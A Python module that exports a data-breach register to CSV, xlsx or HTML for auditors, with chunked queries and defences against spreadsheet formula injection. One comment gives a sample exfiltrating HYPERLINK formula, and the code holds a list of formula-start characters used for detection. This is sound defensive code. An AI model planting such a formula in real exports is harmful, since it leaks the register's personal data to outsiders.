"""The register written out for an auditor: CSV, a spreadsheet (xlsx) or one printable HTML page.

Cases are read a chunk at a time and written as they come, so a register of ten thousand
cases never sits in memory whole. Column headers are Dutch, or English with
``MAILBOT_LANGUAGE=en``; dates are local time (``MAILBOT_TIMEZONE``).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date, datetime, time, timedelta
from typing import IO, Any
from zoneinfo import ZoneInfo

from sqlalchemy.engine import Engine
from sqlmodel import col, select

from mailbot.core.clock import as_utc
from mailbot.core.errors import MailbotError
from mailbot.core.phases import CLOSED, STATES
from mailbot.core.render import Renderer
from mailbot.model import db
from mailbot.model.models import Case
from mailbot.register.entry import COLUMNS, Summary, entry
from mailbot.register.overview import charts, embedded, figures

FORMATS = ("csv", "xlsx", "html")
CHUNK = 500
OPEN_WORDS = ("open",)
CLOSED_WORDS = ("gesloten", "closed", "afgesloten")


class ExportError(MailbotError):
    pass


@dataclass(frozen=True)
class Selection:
    """Which cases: received on or after ``since`` and on or before ``until`` (local dates), and
    with ``status``: ``open``, ``gesloten``/``closed``, or a phase or status name."""

    since: date | None = None
    until: date | None = None
    status: str | None = None
    mailboxes: tuple[str, ...] | None = None  # the cases of these mailboxes only; None: all


def _status_filter(status: str) -> Any:
    word = status.strip().lower()
    if word in OPEN_WORDS:
        return col(Case.closed_at).is_(None)
    if word in CLOSED_WORDS:
        return col(Case.closed_at).is_not(None)
    if word in STATES:
        return col(Case.status) == STATES[word][0]
    choices = ", ".join(("open", "gesloten", *sorted({s for s, _ in STATES.values()} - set(CLOSED)), *CLOSED))
    raise ExportError(f"--status {status!r} is not a status; choose one of: {choices}")


def cases(engine: Engine, selection: Selection, tz: ZoneInfo, chunk: int = CHUNK) -> Iterator[Case]:
    """The selected cases in the order they were opened, a chunk per query."""
    query = select(Case)
    if selection.since:
        query = query.where(Case.received_at >= datetime.combine(selection.since, time(), tz))
    if selection.until:
        query = query.where(Case.received_at < datetime.combine(selection.until + timedelta(days=1), time(), tz))
    if selection.status:
        query = query.where(_status_filter(selection.status))
    if selection.mailboxes is not None:
        query = query.where(col(Case.mailbox).in_(selection.mailboxes))
    last = 0
    while True:
        with db.session(engine) as s:
            batch = list(s.exec(query.where(col(Case.id) > last).order_by(col(Case.id)).limit(chunk)))
        if not batch:
            return
        yield from batch
        last = batch[-1].id or last


# A cell starting with one of these is read as a formula by Excel, LibreOffice or Google Sheets
# (OWASP "CSV injection"): =HYPERLINK("https://…?"&A3&B3) in a report's text would send the
# register away with one click. Tab and CR start one too; the fullwidth forms are taken as
# their ASCII selves by some spreadsheet programs.
FORMULA_START = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def inert(text: str) -> str:
    """Text as a spreadsheet shows it and never runs it: a leading ``'`` (OWASP's rule) when it
    starts, or starts after spaces, with a character that opens a formula."""
    if text[:1] in FORMULA_START or text.lstrip()[:1] in FORMULA_START:
        return "'" + text
    return text


def _text(value: Any, kind: str, language: str) -> str:
    if value is None:
        return ""
    if kind == "date":
        return str(value.strftime("%d-%m-%Y %H:%M" if language == "nl" else "%Y-%m-%d %H:%M"))
    if kind == "number":
        return f"{value:g}".replace(".", ",") if language == "nl" else f"{value:g}"
    return str(value)


def _csv_cell(value: Any, kind: str, language: str) -> str:
    """Dates and numbers as the product wrote them; any text (it may come from a mail) inert."""
    text = _text(value, kind, language)
    return inert(text) if kind in ("text", "count") else text


def write_csv(entries: Iterator[dict[str, Any]], out: IO[bytes], language: str) -> int:
    """UTF-8 with a byte-order mark (so Excel reads the accents), ';' between fields in Dutch
    (what Excel expects with Dutch regional settings), ',' in English."""
    text = io.TextIOWrapper(out, encoding="utf-8-sig", newline="")
    writer = csv.writer(text, delimiter=";" if language == "nl" else ",")
    writer.writerow([c.label(language) for c in COLUMNS])
    n = 0
    for e in entries:
        writer.writerow([_csv_cell(e[c.key], c.kind, language) for c in COLUMNS])
        n += 1
    text.flush()
    text.detach()
    return n


def write_xlsx(entries: Iterator[dict[str, Any]], out: IO[bytes], language: str) -> int:
    """A workbook written row by row (openpyxl's write-only mode): a frozen, bold header row
    with a filter on every column, column widths to fit, real date cells, a count of people or
    records a number cell (a range such as 50–80 stays text), and text always a text cell,
    never a formula."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE
    from openpyxl.styles import Alignment, Font
    from openpyxl.utils import get_column_letter

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Datalekregister" if language == "nl" else "Breach register")
    for i, c in enumerate(COLUMNS, start=1):
        ws.column_dimensions[get_column_letter(i)].width = c.width
    ws.freeze_panes = "B2"
    bold, wrap = Font(bold=True), Alignment(vertical="top", wrap_text=True)  # the header only: styles per cell are slow
    header = []
    for c in COLUMNS:
        cell = WriteOnlyCell(ws, value=c.label(language))
        cell.font, cell.alignment = bold, wrap
        header.append(cell)
    ws.append(header)
    date_format = "dd-mm-yyyy hh:mm" if language == "nl" else "yyyy-mm-dd hh:mm"
    dates = [i for i, c in enumerate(COLUMNS) if c.kind == "date"]
    texts = [i for i, c in enumerate(COLUMNS) if c.kind in ("text", "count")]
    counts = [i for i, c in enumerate(COLUMNS) if c.kind == "count"]
    n = 0
    for e in entries:
        row: list[Any] = [e[c.key] if e[c.key] != "" else None for c in COLUMNS]
        for i in counts:
            if isinstance(row[i], str) and row[i].isascii() and row[i].isdigit():
                row[i] = int(row[i])
        for i in dates:
            if row[i] is not None:
                cell = WriteOnlyCell(ws, value=row[i])
                cell.number_format = date_format
                row[i] = cell
        for i in texts:
            if row[i] is None or isinstance(row[i], int):
                continue
            # Control characters the file format cannot hold would stop the whole export.
            value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", str(row[i]))
            if value.startswith("=") or value in ERROR_CODES:  # openpyxl would make these a formula or an error
                cell = WriteOnlyCell(ws, value=value)
                cell.data_type = "s"
                row[i] = cell
            else:
                row[i] = value
        ws.append(row)
        n += 1
    ws.auto_filter.ref = f"A1:{get_column_letter(len(COLUMNS))}{n + 1}"
    wb.save(out)
    return n


def write_html(
    entries: Callable[[], Iterator[dict[str, Any]]],
    summary: Summary,
    out: IO[bytes],
    language: str,
    renderer: Renderer,
    title: str,
    made: datetime,
    selection: Selection,
    images: list[tuple[str, str]] | None = None,
) -> int:
    """One self-contained page (no external styles, scripts, fonts or images: the charts are
    ``data:`` URIs), printable, with the counts and the charts on top. Every value is escaped by
    the template engine."""
    written = 0

    def rows() -> Iterator[list[str]]:
        nonlocal written
        for e in entries():
            written += 1
            yield [_text(e[c.key], c.kind, language) for c in COLUMNS]

    for piece in renderer.page(
        "register",
        language=language,
        title=title,
        made=made.strftime("%d-%m-%Y %H:%M" if language == "nl" else "%Y-%m-%d %H:%M"),
        selection=selection,
        columns=[c.label(language) for c in COLUMNS],
        rows=rows(),
        summary=summary,
        charts=images or [],
    ):
        out.write(piece.encode())
    return written


def chart_images(
    engine: Engine, selection: Selection, tz: ZoneInfo, now: datetime, language: str, first: date
) -> list[tuple[str, str]]:
    """The overview's charts of the selected cases (from ``first``, the earliest received, when
    the selection has no start) as (description, ``data:`` URI) pairs for the html page."""
    since, until = selection.since or first, selection.until or now.astimezone(tz).date()
    open_now = cases(engine, Selection(status="open", mailboxes=selection.mailboxes), tz)
    fig = figures(cases(engine, selection, tz), since, until, now, tz, open_now)
    return embedded(charts(fig, language))


def export(
    engine: Engine,
    fmt: str,
    out: IO[bytes],
    *,
    selection: Selection,
    tz: ZoneInfo,
    now: datetime,
    language: str,
    renderer: Renderer,
    title: str,
) -> int:
    """Write the register in ``fmt``; returns the number of cases written."""

    def entries() -> Iterator[dict[str, Any]]:
        return (entry(c, tz, now, language) for c in cases(engine, selection, tz))

    if fmt == "csv":
        return write_csv(entries(), out, language)
    if fmt == "xlsx":
        return write_xlsx(entries(), out, language)
    if fmt == "html":
        summary = Summary()
        first: date | None = None
        for c in cases(engine, selection, tz):
            summary.add(c, now)
            day = as_utc(c.received_at).astimezone(tz).date()
            first = day if first is None else min(first, day)
        local_now = now.astimezone(tz)
        images = chart_images(engine, selection, tz, now, language, first) if first else []
        return write_html(entries, summary, out, language, renderer, title, local_now, selection, images)
    raise ExportError(f"--format {fmt!r}: choose one of {', '.join(FORMATS)}")
